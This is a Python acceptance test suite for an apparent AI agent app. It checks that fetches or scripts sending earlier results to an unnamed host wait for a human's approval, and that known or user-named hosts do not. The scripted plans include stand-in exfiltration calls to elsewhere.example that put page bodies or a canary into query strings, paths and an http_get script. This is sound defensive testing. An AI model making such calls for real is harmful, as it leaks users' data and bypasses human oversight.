"""Green is not a way out: a call that would carry a result to a host nobody named asks first."""

from pathlib import Path

import pytest
from sqlalchemy import URL

from sandbox.script import Json
from tests.acceptance.app_fixture import app_scene
from tests.acceptance.assertions import answered
from tests.acceptance.plans import ANSWERS, ENDS, fetch, goes_on, package, planned

ELSEWHERE = "http://elsewhere.example"


async def test_result_leaves_for_a_host_nobody_named_only_after_a_yes(database_url: URL, tmp_path: Path) -> None:
    async with app_scene(database_url, tmp_path, [ENDS, ANSWERS]) as scene:
        url = scene.effects.url
        scene.model.add(
            planned(
                fetch("page", f"{url}/page"),
                fetch("next", f"{url}/next?status=${{page#/status}}"),
                fetch("away", f"{ELSEWHERE}/?secret=${{page#/body}}"),
                package("script", "def main(inputs):\n    return tools.http_get(url=inputs['u'])\n")
                | {"inputs": {"u": "${page#/status}"}, "tools": ["http_get"]},
            )
        )
        async with scene.asked("read the page") as observer:
            await observer.until(lambda seen: len(seen.cards()) == 2, "two questions")
            await scene.effects.reached("next")  # a known host: it did not wait
            for card in observer.cards():
                await scene.people.click("Grace", observer.channel, str(card.message["ts"]), "decide_rejected")
            await observer.until(answered, "the answer")
            assert observer.says("Title of away", "rejected")
            assert observer.says("Title of script", "rejected")


@pytest.mark.parametrize(
    ("asked", "url"),
    [
        (f"read the page and search {ELSEWHERE} for it", f"{ELSEWHERE}/?q=${{page#/status}}"),
        ("read the page and another one", f"{ELSEWHERE}/other"),
    ],
    ids=["named in the request", "without a result"],
)
async def test_host_of_the_request_and_plain_address_need_no_yes(
    database_url: URL, tmp_path: Path, asked: str, url: str
) -> None:
    async with app_scene(database_url, tmp_path, [ENDS, ANSWERS]) as scene:
        scene.model.add(planned(fetch("page", f"{scene.effects.url}/page"), fetch("away", url)))
        async with scene.asked(asked) as observer:
            await observer.until(answered, "the answer")
            assert observer.cards() == []
            assert observer.says("Title of away", "failed")  # there is no such host


CANARY = "mk7f3a9"


@pytest.mark.parametrize(
    "away",
    [
        fetch("away", f"{ELSEWHERE}/?secret={CANARY}"),
        fetch("away", f"{ELSEWHERE}/{CANARY.upper()}/x"),
        package("away", f"def main(inputs):\n    return tools.http_get(url='{ELSEWHERE}/?q={CANARY}')\n")
        | {"tools": ["http_get"]},
    ],
    ids=["query", "path", "script"],
)
async def test_result_that_the_model_writes_into_an_address_itself_leaves_only_after_a_yes(
    database_url: URL, tmp_path: Path, away: dict[str, Json]
) -> None:
    async with app_scene(database_url, tmp_path, []) as scene:
        for script in (planned(fetch("page", f"{scene.effects.url}/{CANARY}")), goes_on(away), ANSWERS):
            scene.model.add(script)
        async with scene.asked("read the page") as observer:
            await observer.until(lambda seen: bool(seen.cards()), "the question")
            assert observer.says("Title of away")
            await scene.click(observer, "Grace", "rejected")
            await observer.until(answered, "the answer")
            assert observer.says("Title of away", "rejected")


async def test_the_same_address_again_needs_no_yes(database_url: URL, tmp_path: Path) -> None:
    async with app_scene(database_url, tmp_path, []) as scene:
        url = f"{ELSEWHERE}/{CANARY}"
        first = planned(fetch("page", f"{scene.effects.url}/{CANARY}"), fetch("away", url))
        for script in (first, goes_on(fetch("again", url)), ANSWERS):
            scene.model.add(script)
        async with scene.asked("read both") as observer:
            await observer.until(answered, "the answer")
            assert observer.cards() == []
            assert observer.says("Title of again", "failed")  # there is no such host
